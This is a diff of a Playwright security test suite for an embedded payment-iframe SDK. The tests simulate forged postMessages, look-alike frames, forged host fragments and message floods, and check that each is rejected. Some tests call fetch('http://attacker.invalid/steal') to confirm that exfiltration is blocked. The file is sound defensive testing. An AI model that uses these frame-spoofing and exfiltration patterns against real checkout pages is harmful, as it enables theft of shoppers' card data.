+    await expect.poll(async () => (await page.evaluate(collectLoot)).records.some((entry) => entry.includes('"type":"height","height":1000'))).toBe(true);
     expect(await page.evaluate(() => window.capturedPorts!.length)).toBe(channelsBefore);
+    expect(await page.locator('payframe-checkout [part="card"]').evaluate((element) => (element as HTMLElement).style.height)).not.toBe('1000px');
     await expectFieldsStillWorkAndNothingLeaked(page, checkout);
   });
 
-  test('attack: "connect" from the right origin but the wrong window (a same-origin child frame) is dropped', async ({ page, demo, checkout }) => {
+  test('attack: "connect" from the right origin but the wrong window (a same-origin child frame) is dropped by a card frame', async ({ page, demo, checkout }) => {
     await openMerchantPageWithThirdPartyFrames(page, demo.merchantUrl, checkout);
-    // A raw field frame the page embeds itself, so no SDK answers its hello first.
+    // A raw card frame the page embeds itself, so no SDK answers its hello first.
     const checkoutId = 'AttackAttackAttackAttack';
     await page.evaluate(
-      ({ fieldsOrigin, merchant, id, key }) => {
-        const field = document.createElement('iframe');
-        field.id = 'raw-field';
-        field.src = `${fieldsOrigin}/frames/${key}/number.html#${new URLSearchParams({ frame: 'number', checkout: id, host: merchant })}`;
+      ({ src, merchant }) => {
+        const card = document.createElement('iframe');
+        card.id = 'raw-card';
+        card.src = src;
         const helper = document.createElement('iframe');
         helper.id = 'same-origin-helper';
         helper.src = `${merchant}/test-pages/blank.html`;
-        document.body.append(field, helper);
-        return Promise.all([field, helper].map((frame) => new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))));
+        document.body.append(card, helper);
+        return Promise.all([card, helper].map((frame) => new Promise((resolve) => frame.addEventListener('load', resolve, { once: true }))));
       },
-      { fieldsOrigin: demo.fieldsOrigin, merchant: demo.merchantUrl, id: checkoutId, key: demo.publishableKey },
+      { src: cardPageUrl(demo.fieldsOrigin, demo.publishableKey, { checkout: checkoutId, host: demo.merchantUrl }), merchant: demo.merchantUrl },
     );
     const helper = page.frames().find((frame) => frame.url().endsWith('/test-pages/blank.html'))!;
-    const rawField = page.frames().find((frame) => frame.url().includes(`checkout=${checkoutId}`))!;
+    const rawCard = page.frames().find((frame) => frame.url().includes(`checkout=${checkoutId}`))!;
     const fromHelper = await helper.evaluate(
       ({ fieldsOrigin, id }) =>
         new Promise<unknown[]>((resolve) => {
-          const target = (window.parent.document.getElementById('raw-field') as HTMLIFrameElement).contentWindow!;
+          const target = (window.parent.document.getElementById('raw-card') as HTMLIFrameElement).contentWindow!;
           const channel = new MessageChannel();
           const heard: unknown[] = [];
           channel.port1.onmessage = (event) => heard.push(event.data);
@@ -262,43 +484,54 @@ test.describe('forged messages to the frames', () => {
       { fieldsOrigin: demo.fieldsOrigin, id: checkoutId },
     );
     expect(fromHelper).toEqual([]);
-    await expect.poll(() => rawField.evaluate(() => window.payframeDroppedMessages ?? 0)).toBe(1);
+    await expect.poll(() => droppedIn(rawCard)).toBe(1);
     const fromParent = await page.evaluate(
       ({ fieldsOrigin, id }) =>
         new Promise<unknown>((resolve) => {
-          const target = (document.getElementById('raw-field') as HTMLIFrameElement).contentWindow!;
+          const target = (document.getElementById('raw-card') as HTMLIFrameElement).contentWindow!;
           const channel = new MessageChannel();
           channel.port1.onmessage = (event) => resolve(event.data);
           target.postMessage({ payframe: 1, type: 'connect', checkout: id }, fieldsOrigin, [channel.port2]);
         }),
       { fieldsOrigin: demo.fieldsOrigin, id: checkoutId },
     );
-    expect(fromParent).toMatchObject({ type: expect.stringMatching(/^(ready|change)$/) });
+    expect(fromParent).toMatchObject({ type: expect.stringMatching(/^(ready|change|height)$/) });
   });
 
-  test('attack: messages of every wrong shape to every frame are dropped and counted', async ({ page, checkout }) => {
-    const junk = [null, 42, 'tokenize', [], { type: 'focus', extra: { deep: [1, 2, 3] }, value: 1 }, { type: 'configure' }, { type: 'configure', options: { placeholder: 'x'.repeat(101) } }, { type: 'tokenize' }, { payframe: 1 }];
-    const kinds = ['number', 'expiry', 'cvc', 'controller'] as const;
-    const before = await Promise.all(kinds.map((kind) => droppedIn(page, checkout, kind)));
-    await page.evaluate((messages) => {
-      for (const kind of ['number', 'expiry', 'cvc', 'controller']) for (const message of messages) capturedPortFor(kind).postMessage(message);
-    }, junk);
-    // {type:'focus', extra, value} is a valid focus command once extras are stripped: 8 of 9 are dropped by fields.
-    for (const [index, kind] of kinds.entries()) {
-      await expect.poll(() => droppedIn(page, checkout, kind), { message: kind }).toBe(before[index]! + (kind === 'controller' ? junk.length : junk.length - 1));
-    }
-    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
-  });
+  for (const { layout, label } of LAYOUTS) {
+    test(`attack: messages of every wrong shape to every frame (${layout === 'drop-in' ? 'the drop-in\'s card frame' : 'split fields and their controller'}) are dropped and counted`, async ({ page, checkout, split }) => {
+      void label;
+      const target = await harnessFor(layout, checkout, split);
+      // {type:'focus', extra, value} is a valid focus command once extras are stripped (the field and
+      // card frames take it, a controller does not); the last is over a limit of that frame's schema.
+      const junk = [null, 42, 'tokenize', [], { type: 'focus', extra: { deep: [1, 2, 3] }, value: 1 }, { type: 'configure' }, { type: 'tokenize' }, { payframe: 1 }];
+      const overLimit = target.cardFrame ? { type: 'configure', options: { locale: 'x'.repeat(101) } } : { type: 'configure', options: { placeholder: 'x'.repeat(101) } };
+      const kinds = target.cardFrame ? (['card'] as const) : (['number', 'expiry', 'cvc', 'controller'] as const);
+      const frameOf = (kind: (typeof kinds)[number]) => (kind === 'controller' || kind === 'card' ? paymentFrame(page, target) : target.frame(kind));
+      const before = await Promise.all(kinds.map(async (kind) => droppedIn(await frameOf(kind))));
+      await page.evaluate(
+        ({ messages, kinds, host }) => {
+          for (const kind of kinds) for (const message of messages) capturedPortFor(kind, host).postMessage(message);
+        },
+        { messages: [...junk, overLimit], kinds: [...kinds], host: target.host },
+      );
+      for (const [index, kind] of kinds.entries()) {
+        const frame = await frameOf(kind);
+        await expect.poll(() => droppedIn(frame), { message: kind }).toBe(before[index]! + (kind === 'controller' ? junk.length + 1 : junk.length));
+      }
+      await expectFieldsStillWorkAndNothingLeaked(page, target);
+    });
+  }
 });
 
 test.describe('tampering with the frames', () => {
-  test('attack: navigate a field frame away and back: the frame reconnects and works', async ({ page, demo, checkout }) => {
-    const numberPorts = () => page.evaluate(() => window.capturedPorts!.filter((entry) => entry.frame === 'number').length);
-    const portsBefore = await numberPorts();
+  test('attack: navigate the card frame away and back: the frame reconnects and works', async ({ page, demo, checkout }) => {
+    const cardPorts = () => page.evaluate(() => window.capturedPorts!.filter((entry) => entry.frame === 'card').length);
+    const portsBefore = await cardPorts();
     // Away to another page of another site. (about:blank would do too, but Playwright 1.65 on
     // Chromium 156 sometimes loses track of a frame that goes in-process and back.)
     await page.evaluate(async (away) => {
-      const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector('payframe-card-number')!.shadowRoot!.querySelector('iframe')!;
+      const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!;
       const original = iframe.src;
       const loaded = () => new Promise((resolve) => iframe.addEventListener('load', resolve, { once: true }));
       iframe.src = away;
@@ -307,40 +540,87 @@ test.describe('tampering with the frames', () => {
       await loaded();
     }, `${demo.fieldsOrigin}/nothing-here`);
     // The reloaded frame said hello again and got a fresh port.
-    await expect.poll(numberPorts).toBe(portsBefore + 1);
+    await expect.poll(cardPorts).toBe(portsBefore + 1);
     await expectFieldsStillWorkAndNothingLeaked(page, checkout);
   });
 
-  test('attack: replace a field frame with a look-alike: the controller never gets a number from it', async ({ page, demo, checkout, gatewayTraffic }) => {
+  test('attack: replace the card frame with a look-alike that says hello as the card frame: the SDK does not answer it, and the genuine frame comes back empty', async ({ page, demo, checkout, gatewayTraffic }) => {
     await openMerchantPageWithThirdPartyFrames(page, demo.merchantUrl, checkout);
     await checkout.fillCard(SECRET_CARD);
+    const checkoutId = await cardCheckoutId(page);
+    const portsBefore = await page.evaluate(() => window.capturedPorts!.length);
+    const hellosBefore = (await page.evaluate(collectLoot)).records.filter((entry) => entry.includes('"type":"hello"')).length;
+    const lookAlike = `${demo.merchantUrl.replace('localhost', '127.0.0.1')}/test-pages/blank.html`;
+    const original = await page.evaluate((url) => {
+      const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!;
+      const src = iframe.src;
+      iframe.src = url;
+      return src;
+    }, lookAlike);
+    await expect.poll(() => page.frames().some((frame) => frame.url() === lookAlike)).toBe(true);
+    const fake = page.frames().find((frame) => frame.url() === lookAlike)!;
+    // In the card frame's own iframe element (the right event.source), speaking the protocol, from the wrong origin.
+    await fake.evaluate(
+      ({ id, merchant }) => {
+        window.parent.postMessage({ payframe: 1, type: 'hello', frame: 'card', checkout: id }, merchant);
+        window.parent.postMessage({ type: 'tokenize-result', requestId: 'x', result: { paymentMethod: { id: 'pm_fake' } } }, merchant);
+      },
+      { id: checkoutId, merchant: demo.merchantUrl },
+    );
+    await expect.poll(async () => (await page.evaluate(collectLoot)).records.filter((entry) => entry.includes('"type":"hello"')).length).toBe(hellosBefore + 1);
+    expect(await page.evaluate(() => window.capturedPorts!.length)).toBe(portsBefore);
+    expect(gatewayTraffic.tokenizations()).toHaveLength(0);
+    // The genuine frame back in place: it connects again and starts empty; the typed card went with it.
+    await page.evaluate((src) => {
+      document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!.src = src;
+    }, original);
+    await expect.poll(() => page.evaluate(() => window.capturedPorts!.length)).toBe(portsBefore + 1);
+    for (const kind of ['number', 'expiry', 'cvc'] as const) await expect(checkout.input(kind)).toHaveValue('');
+    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
+    expect(gatewayTraffic.tokenizations()).toHaveLength(1);
+  });
+
+  test('attack: replace a split field frame with a look-alike: the controller never gets a number from it', async ({ page, demo, split, gatewayTraffic }) => {
+    await openSplitPageWithThirdPartyFrames(page, demo.merchantUrl, split);
+    await split.fillCard(SECRET_CARD);
     await page.evaluate((lookAlike) => {
-      const iframe = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector('payframe-card-number')!.shadowRoot!.querySelector('iframe')!;
+      const iframe = document.querySelector('payframe-card-group payframe-card-number')!.shadowRoot!.querySelector('iframe')!;
       iframe.src = lookAlike;
     }, `${demo.merchantUrl.replace('localhost', '127.0.0.1')}/test-pages/blank.html`);
     await expect.poll(() => page.frames().some((frame) => frame.url().endsWith('/test-pages/blank.html'))).toBe(true);
     // The SDK still believes the number is complete; the controller asks the fields and the
     // look-alike cannot answer on the fields origin's channel.
-    const result = await checkout.tokenize();
+    const result = await split.tokenize();
     expect(result).toMatchObject({ error: { code: 'fields_unavailable' } });
     expect(gatewayTraffic.tokenizations()).toHaveLength(0);
   });
 
-  test('attack: remove the frames and insert them again: they reload and work', async ({ page, checkout }) => {
+  test('attack: remove the card frame and insert it again: it reloads empty and works', async ({ page, checkout }) => {
     await checkout.type('number', '4242');
     const reloads = await page.evaluate(() => {
-      const frames = [...document.querySelector('payframe-checkout')!.shadowRoot!.querySelectorAll('payframe-card-number, payframe-card-expiry, payframe-card-cvc')].map((field) => field.shadowRoot!.querySelector('iframe')!);
+      const frames = [...document.querySelector('payframe-checkout')!.shadowRoot!.querySelectorAll('iframe')];
       const parents = frames.map((frame) => frame.parentNode!);
       frames.forEach((frame) => frame.remove());
       frames.forEach((frame, index) => parents[index]!.prepend(frame));
       return frames.length;
     });
-    expect(reloads).toBe(3);
+    expect(reloads).toBe(1);
     await expect(checkout.input('number')).toHaveValue('');
     await expectFieldsStillWorkAndNothingLeaked(page, checkout);
   });
 
-  test('attack: embed the fields from an origin the fields server does not allow (frame-ancestors)', async ({ page, demo }) => {
+  test('attack: open the card frame page top-level, with a fragment naming the merchant: it stays inert', async ({ page, demo }) => {
+    const topLevel = await page.context().newPage();
+    await topLevel.goto(cardPageUrl(demo.fieldsOrigin, demo.publishableKey, { checkout: 'TopLevelTopLevelTopLevel', host: demo.merchantUrl }));
+    expect(await startedIn(topLevel.mainFrame())).toBe(false);
+    // Nothing wired: the number is not even formatted as it is typed.
+    await topLevel.locator('input#number').pressSequentially('4242424242424242');
+    await expect(topLevel.locator('input#number')).toHaveValue('4242424242424242');
+    await expect(topLevel.locator('#number-field')).not.toHaveClass(/complete/);
+    await topLevel.close();
+  });
+
+  test('attack: embed the card frame from an origin its key does not allow: the browser refuses it (frame-ancestors), and the page would not start there anyway', async ({ page, demo }) => {
     const otherOrigin = demo.merchantUrl.replace('localhost', '127.0.0.1');
     const blocked = await page.context().newPage();
     await blocked.goto(`${otherOrigin}/test-pages/blank.html`);
@@ -349,43 +629,55 @@ test.describe('tampering with the frames', () => {
       iframe.src = src;
       document.body.append(iframe);
       return new Promise((resolve) => iframe.addEventListener('load', resolve, { once: true }));
-    }, `${demo.fieldsOrigin}/frames/${demo.publishableKey}/number.html#frame=number&checkout=AttackAttackAttackAttack&host=${encodeURIComponent(otherOrigin)}`);
-    // The browser refused to render the frame: it never ran our page.
+    }, cardPageUrl(demo.fieldsOrigin, demo.publishableKey, { checkout: 'AttackAttackAttackAttack', host: otherOrigin }));
     const frame = blocked.frames().find((candidate) => candidate !== blocked.mainFrame())!;
+    // Inert: here because the browser refuses it; in a browser that let it render, because the page's
+    // own embedder check (frame-params.ts) finds no allowed site of the key in its fragment.
+    expect(await startedIn(frame)).toBe(false);
+    // The browser refused to render the frame: it never ran our page.
     const ran = await frame.evaluate(() => document.querySelector('input') !== null).catch(() => false);
     expect(ran).toBe(false);
     await blocked.close();
   });
 
-  test('attack: embed a field frame claiming to be another host: it refuses to start', async ({ page, demo }) => {
-    // The merchant page embeds a frame whose URL claims a different host origin.
-    await page.evaluate(
-      ({ fieldsOrigin, key }) => {
-        const iframe = document.createElement('iframe');
-        iframe.id = 'lying-frame';
-        iframe.src = `${fieldsOrigin}/frames/${key}/number.html#${new URLSearchParams({ frame: 'number', checkout: 'AttackAttackAttackAttack', host: 'https://bank.example' })}`;
-        document.body.append(iframe);
-        return new Promise((resolve) => iframe.addEventListener('load', resolve, { once: true }));
-      },
-      { fieldsOrigin: demo.fieldsOrigin, key: demo.publishableKey },
-    );
-    const lying = page.frames().find((frame) => frame.url().includes('checkout=AttackAttackAttackAttack'))!;
-    expect(await lying.evaluate(() => ({ started: document.body.dataset.field ?? null, autocomplete: document.querySelector('input')!.autocomplete }))).toEqual({ started: null, autocomplete: '' });
+  test('attack: embed the card frame with a forged host in its fragment (an origin its key does not list): it refuses to start', async ({ page, demo }) => {
+    const lying = await embedFramePage(page, cardPageUrl(demo.fieldsOrigin, demo.publishableKey, { checkout: 'AttackAttackAttackAttack', host: 'https://bank.example' }), 'checkout=AttackAttackAttackAttack');
+    expect(await startedIn(lying)).toBe(false);
+    // Not even its texts: the placeholders are set when the page starts.
+    expect(await lying.evaluate(() => document.querySelector<HTMLInputElement>('input#number')!.placeholder)).toBe('');
   });
 
-  test('attack: open one kind of field page as another (cvc.html as the number): it refuses to start', async ({ page, demo }) => {
-    await page.evaluate(
-      ({ fieldsOrigin, host, key }) => {
-        const iframe = document.createElement('iframe');
-        iframe.src = `${fieldsOrigin}/frames/${key}/cvc.html#${new URLSearchParams({ frame: 'number', checkout: 'MixedKindMixedKindMixed', host })}`;
-        document.body.append(iframe);
-        return new Promise((resolve) => iframe.addEventListener('load', resolve, { once: true }));
-      },
-      { fieldsOrigin: demo.fieldsOrigin, host: new URL(page.url()).origin, key: demo.publishableKey },
-    );
-    const mixed = page.frames().find((frame) => frame.url().includes('checkout=MixedKindMixedKindMixed'))!;
-    // Same origin, same host: only the page's own kind is refused, so the CVC page never runs as a number.
-    expect(await mixed.evaluate(() => ({ started: document.body.dataset.field ?? null, autocomplete: document.querySelector('input')!.autocomplete }))).toEqual({ started: null, autocomplete: '' });
+  test('attack: a site allowed for the key embeds the card frame naming another allowed site as its host: it refuses to start', async ({ page, demo }) => {
+    // The key lists two sites of the merchant; the page on one claims to be the other.
+    const otherSite = demo.merchantUrl.replace('localhost', '127.0.0.1');
+    const allowed = demo.fieldsConfig.accounts.find((account) => account.publishableKeys.includes(demo.publishableKey))!.allowedOrigins;
+    allowed.push(otherSite);
+    try {
+      const lying = await embedFramePage(page, cardPageUrl(demo.fieldsOrigin, demo.publishableKey, { checkout: 'OtherSiteOtherSiteOther', host: otherSite }), 'checkout=OtherSiteOtherSiteOther');
+      // Rendered (both sites are frame-ancestors), but the browser says who embeds it, and that is not the host it names.
+      expect(await lying.evaluate(() => [document.querySelectorAll('input').length, location.ancestorOrigins[0]])).toEqual([3, demo.merchantUrl]);
+      expect(await startedIn(lying)).toBe(false);
+      // The same page naming its real embedder starts: the check is about the lie, not the site.
+      const honest = await embedFramePage(page, cardPageUrl(demo.fieldsOrigin, demo.publishableKey, { checkout: 'HonestHonestHonestHonest', host: demo.merchantUrl }), 'checkout=HonestHonestHonestHonest');
+      await expect.poll(() => startedIn(honest)).toBe(true);
+    } finally {
+      allowed.splice(allowed.indexOf(otherSite), 1);
+    }
+  });
+
+  test('attack: open one kind of frame page as another (card.html as a number, number.html as the card, cvc.html as a number): none starts', async ({ page, demo }) => {
+    const host = new URL(page.url()).origin;
+    const pages = [
+      ['card.html', 'number', 'CardAsNumberCardAsNumber'],
+      ['number.html', 'card', 'NumberAsCardNumberAsCard'],
+      ['cvc.html', 'number', 'MixedKindMixedKindMixed'],
+    ] as const;
+    for (const [file, frame, checkout] of pages) {
+      const mixed = await embedFramePage(page, `${demo.fieldsOrigin}/frames/${demo.publishableKey}/${file}#${new URLSearchParams({ frame, checkout, host })}`, `checkout=${checkout}`);
+      // Same origin, same host: only the page's own kind is accepted, so no page runs as another.
+      expect(await startedIn(mixed), `${file} as ${frame}`).toBe(false);
+      expect(await mixed.evaluate(() => document.body.dataset.field ?? null)).toBeNull();
+    }
   });
 
   test('attack: two checkouts on one page: each tokenizes its own card only', async ({ page, demo }) => {
@@ -408,14 +700,16 @@ test.describe('tampering with the frames', () => {
     expect(findSecrets(loot.records.join('\n'), { number: '5555555555554444', cvc: '321' })).toEqual([]);
   });
 
-  test('attack: flood every frame with 10,000 messages while the shopper types', async ({ page, demo, checkout }) => {
+  test('attack: flood the card frame with 10,000 window messages and 10,000 port messages while the shopper types', async ({ page, demo, checkout }) => {
+    const card = await checkout.frame('number');
+    const before = await droppedIn(card);
     const flood = page.evaluate(
       async ({ fieldsOrigin }) => {
-        const frames = [...document.querySelector('payframe-checkout')!.shadowRoot!.querySelectorAll('iframe')];
+        const frame = document.querySelector('payframe-checkout')!.shadowRoot!.querySelector<HTMLIFrameElement>('[part="card"] iframe')!;
+        const port = capturedPortFor('card');
         for (let i = 0; i < 10_000; i++) {
-          const frame = frames[i % frames.length]!;
           frame.contentWindow!.postMessage({ payframe: 1, type: 'connect', junk: i }, fieldsOrigin);
-          capturedPortFor(['number', 'expiry', 'cvc', 'controller'][i % 4]!).postMessage({ type: 'noise', i });
+          port.postMessage({ type: 'noise', i });
           if (i % 500 === 0) await new Promise((resolve) => setTimeout(resolve, 0));
         }
       },
@@ -424,31 +718,36 @@ test.describe('tampering with the frames', () => {
     await checkout.fillCard(SECRET_CARD);
     await flood;
     await expect(checkout.input('number')).toHaveValue('4111 1111 1111 1111');
-    const dropped = await Promise.all((['number', 'expiry', 'cvc', 'controller'] as const).map((kind) => droppedIn(page, checkout, kind)));
-    expect(dropped.reduce((sum, count) => sum + count, 0)).toBe(20_000);
+    await expect.poll(() => droppedIn(card)).toBe(before + 20_000);
     const result = await checkout.tokenize();
     expect('paymentMethod' in result && result.paymentMethod.card.last4).toBe('1111');
   });
 });
 
 test.describe('what a compromised frame could do', () => {
-  test('attack: the field frames cannot send anything anywhere (connect-src none)', async ({ page, checkout }) => {
-    const frame = await checkout.frame('number');
+  test('attack: the split field frames cannot send anything anywhere (connect-src none)', async ({ page, checkout, split }) => {
+    const group = await harnessFor('split', checkout, split);
+    const frame = await group.frame('number');
     const outcome = await frame.evaluate(() => fetch('http://attacker.invalid/steal', { method: 'POST', body: 'x' }).then(() => 'sent', (error: Error) => error.name));
     expect(outcome).toBe('TypeError');
-    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
+    await expectFieldsStillWorkAndNothingLeaked(page, group);
   });
 
-  test('attack: the controller can reach the configured gateway and nothing else', async ({ page, checkout }) => {
-    const controller = page.frames().find((candidate) => candidate.url().includes('/controller.html#'))!;
-    const outcome = await controller.evaluate(() => fetch('http://attacker.invalid/steal').then(() => 'sent', (error: Error) => error.name));
-    expect(outcome).toBe('TypeError');
-    await expectFieldsStillWorkAndNothingLeaked(page, checkout);
-  });
+  for (const { layout, label } of LAYOUTS) {
+    test(`attack: ${label} can reach the configured gateway and nothing else`, async ({ page, checkout, split }) => {
+      const target = await harnessFor(layout, checkout, split);
+      const frame = await paymentFrame(page, target);
+      const outcome = await frame.evaluate(() => fetch('http://attacker.invalid/steal').then(() => 'sent', (error: Error) => error.name));
+      expect(outcome).toBe('TypeError');
+      await expectFieldsStillWorkAndNothingLeaked(page, target);
+    });
+  }
 
   test('attack: the fields origin keeps no card data in its storage after a payment', async ({ page, checkout }) => {
     await expectFieldsStillWorkAndNothingLeaked(page, checkout);
-    for (const frame of page.frames().filter((candidate) => candidate.url().includes('.html#frame='))) {
+    const frames = page.frames().filter((candidate) => candidate.url().includes('.html#frame='));
+    expect(frames.some((frame) => frame.url().includes('/card.html#'))).toBe(true);
+    for (const frame of frames) {
       const stored = await frame.evaluate(async () => {
         const databases = (await indexedDB.databases?.()) ?? [];
         return JSON.stringify({ local: { ...localStorage }, session: { ...sessionStorage }, cookie: document.cookie, databases });
